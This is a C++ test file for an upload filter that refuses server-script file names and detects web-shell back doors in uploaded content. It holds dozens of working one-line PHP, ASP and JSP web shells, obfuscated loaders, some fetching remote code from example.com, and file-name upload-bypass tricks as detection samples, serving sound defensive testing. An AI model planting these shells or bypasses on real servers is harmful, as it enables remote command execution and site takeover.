// Back-door uploads: which file names are refused, and which contents.
//
// Contents are fed the way the multipart parser feeds them: in pieces of any
// size. Every back-door sample is tried alone, behind image headers, megabytes
// into random data and across block boundaries, in several piece sizes; the
// harmless samples and real files from Debian packages must pass. The web-shell
// set beside the repository (../shared/webshell) measures the patterns on real
// back doors and real application code.

#include "filter/backdoor.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iterator>
#include <map>
#include <random>
#include <string>
#include <string_view>
#include <vector>

#include "filter/patterns.h"

#ifdef ZELK_HAVE_WEBSHELL_SET
#include "testing/webshell_set.h"
#endif

#ifndef ZELK_SOURCE_DIR
#error "ZELK_SOURCE_DIR must name the repository root"
#endif

namespace zelk::filter {
namespace {

// ---------------------------------------------------------------------------
// File names

TEST(ServerScriptFileName, RefusesWhatIisWouldRunAndPassesTheRest) {
  struct Case {
    const char* name;
    bool refused;
  };
  const Case cases[] = {
      // Script extensions, any ASCII case.
      {"shell.asp", true},
      {"SHELL.ASP", true},
      {"a.asa", true},
      {"a.aspx", true},
      {"a.ashx", true},
      {"a.asmx", true},
      {"a.ascx", true},
      {"a.axd", true},
      {"a.cer", true},
      {"a.cdx", true},
      {"a.cshtml", true},
      {"a.vbhtml", true},
      {"a.shtml", true},
      {"a.shtm", true},
      {"a.stm", true},
      {"a.php", true},
      {"a.pHp3", true},
      {"a.php4", true},
      {"a.php5", true},
      {"a.php7", true},
      {"a.pht", true},
      {"a.phtml", true},
      {"a.phar", true},
      {"a.jsp", true},
      {"a.jspx", true},
      {"a.jspf", true},
      {"a.pl", true},
      {"a.cgi", true},
      // Files that make other names run as scripts.
      {".htaccess", true},
      {".USER.INI", true},
      {"web.config", true},
      {"php.ini", true},
      // IIS 6's ';' reading, and the stored name when ';' comes later.
      {"1.asp;.jpg", true},
      {"shell.asp;x.gif", true},
      {"x.jpg;.asp", true},
      // Trailing dots, spaces and the data stream, as Windows drops them.
      {"x.asp.", true},
      {"x.asp ", true},
      {"x.asp. . ", true},
      {"x.ASP::$DATA", true},
      {"x.asp::$data.", true},
      // A stream name: the file made is the part before the ':'.
      {"shell.php:.jpg", true},
      {"report.jpg:x.asp", false},
      // Client paths: only the last component counts.
      {"C:\\fakepath\\a.php5", true},
      {"C:\\uploads\\photo.jpg", false},
      {"/home/user/a.aspx", true},
      {"dir.asp\\photo.jpg", false},
      {"C:shell.asp", true},
      // A '\' that ends a GBK character is not a separator: the whole name is
      // one component, cut at ';' to "a.asp".
      {"a.asp;\x95\x5c.jpg", true},
      {"\xd5\xd5\xc6\xac\x5c.jpg", false},
      // Images and documents; IIS runs by the last extension only.
      {"photo.jpg", false},
      {"asp.jpg", false},
      {"report.pdf", false},
      {"a.aspx.jpg", false},
      {"php", false},
      {"shell.", false},
      {"", false},
      {"archive.tar.gz", false},
      {"notes.asc", false},
      {"movie.asf", false},
      {"x.phpx", false},
      {"app.config", false},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(IsServerScriptFileName(c.name), c.refused) << "\"" << c.name << "\"";
  }
}

TEST(ServerScriptFileName, EveryListedExtensionIsRefusedAndNoPrefixOfOne) {
  std::string_view list = kServerScriptExtensions;
  int count = 0;
  while (!list.empty()) {
    const std::size_t bar = list.find('|');
    const std::string ext(list.substr(0, bar));
    ASSERT_FALSE(ext.empty()) << "empty entry in kServerScriptExtensions";
    ++count;
    EXPECT_TRUE(IsServerScriptFileName("x." + ext)) << ext;
    EXPECT_TRUE(IsServerScriptFileName("C:\\a\\b." + ext + ";.jpg")) << ext;
    EXPECT_FALSE(IsServerScriptFileName("x." + ext + ".jpg")) << ext;
    EXPECT_FALSE(IsServerScriptFileName("x." + ext + "z")) << ext;
    if (bar == std::string_view::npos) break;
    list.remove_prefix(bar + 1);
  }
  EXPECT_GE(count, 30);
}

// ---------------------------------------------------------------------------
// Content: helpers

// Feeds data in pieces of the given size and returns the verdict.
bool ScanInPieces(std::string_view data, std::size_t piece) {
  BackdoorScanner scanner;
  for (std::size_t at = 0; at < data.size(); at += piece) {
    scanner.Feed(data.substr(at, piece));
  }
  return scanner.found();
}

std::string RandomBytes(std::size_t size, std::uint64_t seed) {
  std::mt19937_64 rng(seed);
  std::string out(size, '\0');
  for (std::size_t i = 0; i < size; i += 8) {
    const std::uint64_t v = rng();
    for (std::size_t k = 0; k < 8 && i + k < size; ++k)
      out[i + k] = static_cast<char>(v >> (8 * k));
  }
  return out;
}

const std::size_t kPieceSizes[] = {1, 7, 64 * 1024, 1 << 30};

// The header bytes of the image formats back doors hide behind: GIF89a with a
// logical screen, a JPEG start with a JFIF segment and a comment segment, and
// a PNG signature with its IHDR chunk.
template <std::size_t N>
std::string Bytes(const char (&literal)[N]) {
  return std::string(literal, N - 1);
}

const std::string& GifHeader() {
  static const std::string h =
      Bytes("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04");
  return h;
}
const std::string& JpegHeader() {
  static const std::string h =
      Bytes("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x01\x00H\x00H\x00\x00\xff\xfe\x01\x00");
  return h;
}
const std::string& PngHeader() {
  static const std::string h = Bytes(
      "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00");
  return h;
}

// ---------------------------------------------------------------------------
// Content: back doors

// One sample per shape family, as back doors write them.
const char* const kBackdoors[] = {
    // ASP and ASP.NET
    R"(<%eval request("x")%>)",
    R"(<% Execute(Request("a")) %>)",
    R"(<%execute(request("a"))%>)",
    R"(<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>)",
    R"(<%@ Page Language="Jscript"%><%var k = Request.Item["z"]; Response.Write(eval(k,"unsafe"));%>)",
    "<script language=\"vbscript\" runat=\"server\">\r\nExecuteGlobal Request.Form(\"c\")\r\n"
    "</script>",
    "<SCRIPT RUNAT=SERVER LANGUAGE=JAVASCRIPT> var P = Request.form('z'); var W = {'E' : eval}; "
    "W.E(P+''); </SCRIPT>",
    "<%\r\nSet ws = Server.CreateObject(\"WScript.Shell\")\r\nSet r = ws.Exec(\"cmd.exe /c \" & "
    "Request(\"c\"))\r\nResponse.Write r.StdOut.ReadAll\r\n%>",
    "<%a=request(\"v\")%><%eval a%>",
    "<%eval(eval(chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116))(\"sz\"))%>",
    "<%@ LANGUAGE = VBScript.Encode %><%#@~^CAAAAA==v,Y.W@4AAAA==^#~@%>",
    "<%@codepage=65000%>\r\n<%+AGUAdgBhAGw-(+AHIAZQBxAHUAZQBzAHQ-(+ACI-c+ACI-))%>",
    "<% Set s = Server.CreateObject(\"ADODB.Stream\") : s.Open : s.WriteText "
    "Request(\"d\") : s.SaveToFile Server.MapPath(Request(\"f\")), 2 %>",
    "<%if (Request.Files.Count!=0) { Request.Files[0].SaveAs(Server.MapPath(Request[\"f\"])); }%>",
    "<%@ Page Language=\"C#\" %><% var p = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", "
    "\"/c \" + Request[\"c\"]); System.Diagnostics.Process.Start(p); %>",
    "<%@ WebHandler Language=\"JScript\" class=\"H\"%>import System.Web; public class H "
    "implements IHttpHandler { function IHttpHandler.ProcessRequest(context : HttpContext) "
    "{ eval(context.Request[\"p\"]); } }",
    "<%@PAGE LANGUAGE=JSCRIPT%><%var PAY:String=Request[\"\\x61\"];eval\r\n(PAY,\"\\x75\\x6E\"+"
    "\"\\x73\\x61\\x66\\x65\");%>",
    "<%@ Language=JScript %><% var sh = new ActiveXObject(\"WScript.Shell\"); %>",
    "<%execute(UnEncode(hu))%>",
    "<%eval(\"e\"&\"v\"&\"a\"&\"l\"&\"(\"&\"r\"&\"e\"&\"q\")%>",
    "<%Execute MorfiCode(\")/*/z/*/(tseuqer lave\")%>",
    "<%execute(d(6)&d(10)&d(9)&d(12)&d(11))%>",
    "<% Set o = Server.CreateObject(\"ScriptControl\") : o.Language = \"vbscript\" : "
    "o.AddCode(Request(\"SubCode\")) %>",
    "<% Set ms = Server.CreateObject(\"MSScriptControl.ScriptControl.1\") : "
    "ms.ExecuteStatement(x) %>",
    "<%@ Page Language=\"C#\" %><% System.Reflection.Assembly.Load("
    "Convert.FromBase64String(Request.Form[\"k\"])); %>",
    "<%@ Page Language=\"VB\" %><% dim w as new streamwriter(request.form(\"path\"), true) %>",
    "<% Set f = fso.CreateTextFile(request(\"p\"), True) %>",
    // PHP
    "<?php @eval($_POST['x']);?>",
    "<?php system($_GET['c']); ?>",
    "<?php assert($_REQUEST['a']); ?>",
    "<?php echo `$_GET[c]`; ?>",
    "<?php @preg_replace(\"/x/e\", $_POST['c'], \"x\"); ?>",
    "<?php $f = create_function('', $_POST['c']); $f(); ?>",
    "<?php call_user_func($_GET['f'], $_GET['a']); ?>",
    "<?php $_POST['a']($_POST['b']); ?>",
    "<?php $a = \"a\".\"s\".\"s\".\"e\".\"r\".\"t\"; $a($_POST[\"sz\"]); ?>",
    "<?php eval(gzinflate(base64_decode('7X1rcxs5kuDnnV+BZWuGlBfi')));?>",
    "<?php eval(\"?>\".gzuncompress(base64_decode(\"eJysvVtv6koXLfjeUv+HfjtH\")));?>",
    "<?php $c = $_POST['cmd']; if ($c) { system($c); } ?>",
    "<?php include($_GET['page']); ?>",
    "<?php array_map('assert', (array)$_REQUEST['op']); ?>",
    "<?php $s = str_rot13('onfr64_qrpbqr'); eval($s($_COOKIE['d'])); ?>",
    "<?php passthru(\"uname -a\"); ?>",
    "<?php $GLOBALS['x'] = \"\\x62\\141\\163\\x65\\x36\\64\\137\\x64\\145\\143\\157\\144\\145\"; "
    "?>",
    "<?=`$_GET[0]`;",
    "<?php echo file_get_contents($_POST['path']); ?>",
    "<?php $fp = fopen('x.php', 'w'); fwrite($fp, $_POST['t']); ?>",
    "<?php eval(xxtea_decrypt(base64_decode($s361), \"3473dab\")); ?>",
    "<?php\n/* \x01 */ system(\"uname -a\"); ?>",
    "<?php mb_ereg_replace('.*', $_REQUEST['op'], '', 'e'); ?>",
    "<?php @extract($_REQUEST); @die($ctime($atime)); ?>",
    "<?php $f = str_replace('et', '', 'cetreetatete_etfunetctieton'); ?>",
    "<?php fputs(fopen('a.php', 'w'), base64_decode('PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOz8+')); ?>",
    "<?php fputs(fopen('a.php', 'w'), pack(\"H*\", \"3c3f406576616c28245f504f53545b785d293f3e\")); "
    "?>",
    "<?php move_uploaded_file($userfile, \"entrika.php\"); ?>",
    "<?php copy(\"http://example.com/c99.txt\", \"lostwolf.php\"); ?>",
    "<?php $c99sh_sourcesurl = 'x'; ?>",
    "<?php $GLOBALS['a'] = $r76[94] . $r76[24] . $r76[24] . $r76[49] . $r76[24] . $r76[54]; ?>",
    "<?php $e = chr(101).chr(118).chr(97).chr(108).chr(40).chr(36); ?>",
    "<?php eval(${$x}['k']); ?>",
    "<?php ${\"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"}['a'] = 1; ?>",
    "<?php ${'_'.$_}['_'](${'_'.$_}['__']); ?>",
    "<?php $item['w']($_POST['x']); ?>",
    "<?php uasort($arr, base64_decode($e)); ?>",
    "<?php filter_var($_REQUEST['p'], FILTER_CALLBACK, array('options' => 'assert')); ?>",
    "<?php $b = file_get_contents(\"http://example.com/1.txt\"); eval($b); ?>",
    "<?php eval($_D('JF9YPWJhc2U2NF9kZWNvZGUo')); ?>",
    "<?php eval(vUMmFr(\"7b1pe+M2sij8ved55j+wFZ+RPXKbFLW3205r31dqT/L4cCclbuIiSsrk/esvAC\")); ?>",
    "<?php $a = strrev('tressa'); $a($_POST['x']); ?>",
    "<script language=\"php\">@eval($_POST['x']);</script>",
    // JSP
    "<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>",
    "<%=new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"cmd\"))"
    ".getInputStream()).useDelimiter(\"\\\\A\").next()%>",
    "<% Process p = new ProcessBuilder(\"/bin/sh\", \"-c\", request.getParameter(\"c\")).start(); "
    "%>",
    "<%new java.io.FileOutputStream(application.getRealPath(\"/\")+request.getParameter(\"f\"))"
    ".write(request.getParameter(\"c\").getBytes());%>",
    "<%! class U extends ClassLoader { U(ClassLoader c) { super(c); } } %>",
    "<% Runtime r = Runtime.getRuntime(); Process p = r.exec(cmd); %>",
    "<% Process p = rt.exec(request.getParameter(\"c\")); %>",
    "<% Class k = loader.defineClass(b, 0, b.length); %>",
    "<jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(\"c\"));</jsp:scriptlet>",
};

TEST(BackdoorScanner, FindsEachBackDoorAloneAndBehindImageHeaders) {
  for (const char* sample : kBackdoors) {
    SCOPED_TRACE(sample);
    const std::string code = sample;
    for (const std::string* header :
         {static_cast<const std::string*>(nullptr), &GifHeader(), &JpegHeader(), &PngHeader()}) {
      const std::string data = (header != nullptr ? *header : std::string()) + code;
      for (std::size_t piece : kPieceSizes) {
        EXPECT_TRUE(ScanInPieces(data, piece))
            << "header " << (header != nullptr ? header->substr(0, 4) : "none") << ", pieces of "
            << piece;
      }
    }
  }
}

TEST(BackdoorScanner, FindsEachBackDoorTwoMegabytesIntoRandomData) {
  const std::string before = RandomBytes(2 * 1024 * 1024 + 13, 1);
  const std::string after = RandomBytes(100 * 1024, 2);
  ASSERT_FALSE(ScanInPieces(before + after, 64 * 1024)) << "the random data alone must pass";
  for (const char* sample : kBackdoors) {
    SCOPED_TRACE(sample);
    const std::string data = before + JpegHeader() + sample + after;
    for (std::size_t piece : kPieceSizes) {
      EXPECT_TRUE(ScanInPieces(data, piece)) << "pieces of " << piece;
    }
  }
}

// A sample placed at every offset around a block boundary lies partly in one
// block and partly in the next; the overlap must keep it whole.
TEST(BackdoorScanner, FindsCodeThatStraddlesABlockBoundary) {
  const std::string noise = RandomBytes(3 * kBackdoorBlockSize, 3);
  for (const char* sample : {R"(<%eval request("x")%>)", "<?php @eval($_POST['x']);?>",
                             "<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>"}) {
    const std::string code = sample;
    for (std::size_t boundary : {kBackdoorBlockSize, 2 * kBackdoorBlockSize}) {
      for (std::size_t back = 0; back <= code.size(); ++back) {
        std::string data = noise;
        data.replace(boundary - back, code.size(), code);
        ASSERT_TRUE(ScanInPieces(data, 4096)) << sample << " at " << boundary << " - " << back;
        ASSERT_TRUE(ScanInPieces(data, 1 << 30)) << sample << " at " << boundary << " - " << back;
      }
    }
  }
}

// A back door deep in a long script: the opener is blocks before the call, the
// bytes between are all code, so the stretch is followed from block to block.
TEST(BackdoorScanner, FollowsOneStretchOfCodeAcrossManyBlocks) {
  std::string code = "<?php\n";
  while (code.size() < 5 * kBackdoorBlockSize) {
    code += "function page_" + std::to_string(code.size()) +
            "($db) { $rows = $db->query('SELECT id, title FROM news'); return count($rows); }\n";
  }
  ASSERT_FALSE(ScanInPieces(code, 64 * 1024)) << "the harmless part alone must pass";
  const std::string data = code + "@eval($_POST['z']);\n?>";
  for (std::size_t piece : {std::size_t{1}, std::size_t{4093}, std::size_t{1} << 30}) {
    EXPECT_TRUE(ScanInPieces(data, piece)) << "pieces of " << piece;
  }
  // Control bytes end the stretch: what follows is no longer code. One alone
  // (in a string, say) does not.
  std::string cut = code;
  cut.replace(cut.size() / 2, 2, "\x01\x02");
  EXPECT_FALSE(ScanInPieces(cut + "@eval($_POST['z']);\n?>", 64 * 1024));
  std::string odd = code;
  odd[odd.size() / 2] = '\x01';
  EXPECT_TRUE(ScanInPieces(odd + "@eval($_POST['z']);\n?>", 64 * 1024));
}

TEST(BackdoorScanner, VerdictIsTheSameForEveryWayOfSplittingTheInput) {
  // Back doors and harmless code mixed into random data; random piece sizes.
  std::mt19937 rng(4);
  std::string data = RandomBytes(300 * 1024, 5);
  const std::string code = "\n<?php system($_GET['c']); ?>\n";
  data.insert(190 * 1024 + 17, code);
  const bool whole = ScanInPieces(data, 1 << 30);
  EXPECT_TRUE(whole);
  for (int round = 0; round < 20; ++round) {
    BackdoorScanner scanner;
    std::size_t at = 0;
    bool seen = false;
    while (at < data.size()) {
      const std::size_t n = std::uniform_int_distribution<std::size_t>(1, 100000)(rng);
      scanner.Feed(std::string_view(data).substr(at, n));
      at += n;
      // found() may be asked at any time; once true it stays true.
      if (seen) {
        EXPECT_TRUE(scanner.found());
      }
      seen = seen || scanner.found();
    }
    EXPECT_EQ(scanner.found(), whole) << "round " << round;
  }
}

TEST(BackdoorScanner, KeepsItsVerdictWhenMovedAndAfterMoreInput) {
  BackdoorScanner scanner;
  scanner.Feed(GifHeader());
  scanner.Feed("<?php eval($_PO");
  EXPECT_FALSE(scanner.found());
  scanner.Feed("ST['a']); ?>");
  BackdoorScanner moved = std::move(scanner);
  EXPECT_TRUE(moved.found());
  moved.Feed(RandomBytes(3 * kBackdoorBlockSize, 6));
  EXPECT_TRUE(moved.found());
  BackdoorScanner assigned;
  assigned = std::move(moved);
  EXPECT_TRUE(assigned.found());
}

// ---------------------------------------------------------------------------
// Content: what must pass

TEST(BackdoorScanner, PassesHarmlessScriptsAndTextThatMentionsTheCalls) {
  const char* const harmless[] = {
      R"(<% Response.Write("hello") %>)",
      "<?php echo date('Y'); ?>",
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
      "<% name = Request.Form(\"name\") : Response.Write(Server.HTMLEncode(name)) %>",
      "<%= Request.QueryString(\"page\") %>",
      "<?php echo htmlspecialchars($_GET['q'], ENT_QUOTES); ?>",
      "<?php $ids = array_map('intval', $_POST['ids']); ?>",
      "<?php $q = preg_replace('/[^a-z]/', '', $_GET['q']); ?>",
      "<?php exec('git log -n1', $out); ?>",
      "<?php $required = isset($_POST['name']); // required by the system ?>",
      "<%= request.getParameter(\"q\") %>",
      "<% long free = Runtime.getRuntime().freeMemory(); %>",
      "<script>var data = eval(request.responseText); eval(xhr.responseText);</script>",
      "<script type=\"text/javascript\">if (/x/.exec(navigator.userAgent)) {}</script>",
      "The attacker sends eval request(\"x\") in an uploaded file.",  // no opener
      "<% Set fso = Server.CreateObject(\"Scripting.FileSystemObject\") %>",
      "<% oUpFileStream.Write Request.BinaryRead(Request.TotalBytes) %>",
      "<?php $hex = $c[1] . $c[1] . $c[2] . $c[2] . $c[3] . $c[3]; ?>",
      "<?php $png = chr(137) . chr(80) . chr(78) . chr(71) . chr(13) . chr(10); ?>",
      "<?php $_file = __DIR__ . '/a.txt'; echo file_get_contents($_file); ?>",
      "<?php $p = new Process(['git', 'log']); $p->run(); ?>",
  };
  for (const char* sample : harmless) {
    for (std::size_t piece : kPieceSizes) {
      EXPECT_FALSE(ScanInPieces(sample, piece)) << sample << ", pieces of " << piece;
    }
  }
}

// Chance openers are everywhere in binary data; a code shape split from its
// opener by a control byte is not code.
TEST(BackdoorScanner, PassesRandomDataWithOpenersAndCallsScatteredInIt) {
  for (std::uint64_t seed = 10; seed < 14; ++seed) {
    std::string data = RandomBytes(2 * 1024 * 1024, seed);
    std::mt19937 rng(static_cast<unsigned>(seed));
    for (int i = 0; i < 2000; ++i) {
      const char* const bits[] = {"<%",    "<?",          "<?php",          "<script runat=server>",
                                  "eval(", "$_POST['x']", "request(\"a\")", "system("};
      const std::string bit = bits[rng() % 8];
      data.replace(rng() % (data.size() - 32), bit.size(), bit);
    }
    EXPECT_FALSE(ScanInPieces(data, 64 * 1024)) << "seed " << seed;
  }
  // The same shape glued to its opener is found: the test above is not empty.
  std::string glued = RandomBytes(1024 * 1024, 20);
  glued.replace(500000, 27, "<?php eval($_POST['x']);?>\n");
  EXPECT_TRUE(ScanInPieces(glued, 64 * 1024));
  glued.replace(500005, 2, "\x02\x03");
  EXPECT_FALSE(ScanInPieces(glued, 64 * 1024));
}

bool ReadFile(const std::string& path, std::string* out) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return false;
  out->assign(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
  return true;
}

// Files from the Debian packages that scripts/setup.sh installs.
TEST(BackdoorScanner, PassesRealImagesDocumentsAndArchives) {
  struct RealFile {
    const char* path;
    std::string_view magic;
  };
  const std::string_view kJpeg("\xff\xd8\xff", 3), kPng("\x89PNG", 4), kGif("GIF8", 4),
      kPdf("%PDF", 4), kZip("PK\x03\x04", 4), kGzip("\x1f\x8b", 2),
      kXz("\xfd"
          "7zXZ",
          5);
  const std::string im = "/usr/share/doc/imagemagick-6-common/html/images/";
  const std::string files[] = {
      im + "examples.jpg",
      im + "configure.jpg",
      im + "wizard.jpg",
      im + "bluebells_lin.jpg",
      im + "wizard.png",
      im + "logo.png",
      im + "t-shirt.png",
      im + "julia-set.png",
      im + "button.gif",
      im + "smile.gif",
      "/usr/share/doc/cmake-data/CMakeLogo.gif",
      "/usr/share/doc/libtasn1-doc/libtasn1.pdf",
      "/usr/lib/python3/dist-packages/docx/templates/default.docx",
      "/usr/share/python-wheels/pip-23.0.1-py3-none-any.whl",
      "/usr/share/python-wheels/setuptools-66.1.1-py3-none-any.whl",
      "/usr/share/doc/xvfb/changelog.gz",
      "/usr/share/i18n/charmaps/GB18030.gz",
      "/usr/share/doc/wine/NEWS.gz",
      // No Debian package here ships a sizeable .xz; the web-shell archives
      // are real xz streams (and hold back doors, which compressed must pass).
      std::string(ZELK_SOURCE_DIR) + "/../shared/webshell/benign.tar.xz",
      std::string(ZELK_SOURCE_DIR) + "/../shared/webshell/malicious.tar.xz",
  };
  const std::vector<std::string_view> magics = {kJpeg, kPng, kGif, kPdf, kZip, kGzip, kXz};
  std::size_t total = 0;
  std::vector<std::string> missing;
  std::map<std::string, int> kinds;
  for (const std::string& path : files) {
    std::string data;
    if (!ReadFile(path, &data)) {
      missing.push_back(path);
      continue;
    }
    const auto kind = std::find_if(magics.begin(), magics.end(), [&](std::string_view m) {
      return data.compare(0, m.size(), m) == 0;
    });
    ASSERT_NE(kind, magics.end()) << path << " is not the kind of file this test expects";
    ++kinds[std::string(kind->substr(0, 2))];
    total += data.size();
    for (std::size_t piece : {std::size_t{7}, std::size_t{64 * 1024}}) {
      if (piece < 64 * 1024 && data.size() > 2 * 1024 * 1024) continue;
      EXPECT_FALSE(ScanInPieces(data, piece)) << path << ", pieces of " << piece;
    }
  }
  if (!missing.empty()) {
    std::string list;
    for (const std::string& m : missing) list += "\n  " + m;
    if (total == 0)
      GTEST_SKIP() << "none of the sample files is installed (scripts/setup.sh)" << list;
    std::printf("[  NOTE    ] %zu sample files absent (scripts/setup.sh installs them):%s\n",
                missing.size(), list.c_str());
  }
  std::printf("[  NOTE    ] %zu bytes of real files, %zu kinds, passed\n", total, kinds.size());
}

// ---------------------------------------------------------------------------
// The web-shell set

struct Tally {
  int hits = 0;
  int total = 0;
};

TEST(BackdoorScannerOnWebShellSet, CatchesMostBackDoorsAndNoApplicationCode) {
#ifndef ZELK_HAVE_WEBSHELL_SET
  GTEST_SKIP() << "built without liblzma: cannot read the web-shell set";
#else
  const std::string dir = testing::WebShellSetDir(ZELK_SOURCE_DIR);
  for (const char* archive : {"malicious.tar.xz", "benign.tar.xz"}) {
    std::ifstream probe(dir + archive);
    if (!probe) GTEST_SKIP() << "web-shell set absent: " << dir << archive;
  }
  std::vector<testing::ArchiveMember> members;
  std::string error;
  ASSERT_TRUE(testing::ReadWebShellSet(ZELK_SOURCE_DIR, &members, &error)) << error;
  ASSERT_GT(members.size(), 3000u);
  // [share][label/language]
  std::map<std::string, Tally> tally[2];
  std::vector<std::string> false_alarms[2];
  for (const testing::ArchiveMember& m : members) {
    const std::size_t s1 = m.name.find('/');
    const std::size_t s2 = m.name.find('/', s1 + 1);
    if (s1 == std::string::npos || s2 == std::string::npos) continue;
    const std::string key = m.name.substr(0, s2);  // e.g. "malicious/php"
    const bool hold_out = testing::IsHoldOut(m.name);
    const bool found = ScanInPieces(m.data, 16 * 1024);
    Tally& t = tally[hold_out][key];
    ++t.total;
    t.hits += found;
    if (found && key.rfind("benign/", 0) == 0) false_alarms[hold_out].push_back(m.name);
  }
  for (int share = 0; share < 2; ++share) {
    for (const auto& [key, t] : tally[share]) {
      std::printf("[  FIGURE  ] %-9s %-15s %4d / %4d\n", share ? "hold-out" : "tuning", key.c_str(),
                  t.hits, t.total);
    }
  }
  auto rate = [&](int share, const std::string& key) {
    const Tally& t = tally[share][key];
    return t.total == 0 ? 0.0 : static_cast<double>(t.hits) / t.total;
  };
  // Floors a little under what the patterns reach, so that a change that
  // loses detection fails here.
  EXPECT_GE(rate(0, "malicious/asp"), 0.77);   // 145 / 183 when frozen
  EXPECT_GE(rate(0, "malicious/aspx"), 0.68);  // 62 / 88
  EXPECT_GE(rate(0, "malicious/php"), 0.65);   // 741 / 1110
  EXPECT_GE(rate(0, "malicious/jsp"), 0.75);   // 41 / 53
  EXPECT_GE(rate(1, "malicious/asp"), 0.72);   // 19 / 25
  EXPECT_GE(rate(1, "malicious/aspx"), 0.68);  // 8 / 11
  EXPECT_GE(rate(1, "malicious/php"), 0.57);   // 91 / 152
  EXPECT_GE(rate(1, "malicious/jsp"), 0.30);   // 3 / 9
  // One piece of application code is refused, known and left as it is: a
  // getid3 demo that reads its upload with
  // file_get_contents($_FILES[...]['tmp_name']), which is what an uploader
  // that runs what it receives does too. It sits in the tuning share; the
  // hold-out share had none when the patterns were frozen.
  EXPECT_LE(false_alarms[0].size(), 1u)
      << false_alarms[0].size() << ", first " << false_alarms[0][0];
  EXPECT_TRUE(false_alarms[1].empty()) << false_alarms[1].size();
  for (const std::string& name : false_alarms[0])
    std::printf("[  FIGURE  ] tuning false alarm %s\n", name.c_str());
  for (const std::string& name : false_alarms[1])
    std::printf("[  FIGURE  ] hold-out false alarm %s\n", name.c_str());
#endif
}

// ---------------------------------------------------------------------------
// The patterns

TEST(BackdoorPatterns, CompileWithAndWithoutTheJit) {
  for (bool jit : {true, false}) {
    const Pattern p = Pattern::Compile(std::string(BackdoorPatternText()), jit);
    EXPECT_TRUE(p.ok()) << p.error();
    // The same verdicts without the JIT (the i686 build may have none).
    EXPECT_EQ(p.Match(R"(<?php eval($_POST['x']);?>)"), MatchResult::kMatch);
    EXPECT_EQ(p.Match("<?php echo date('Y'); ?>"), MatchResult::kNoMatch);
  }
}

}  // namespace
}  // namespace zelk::filter
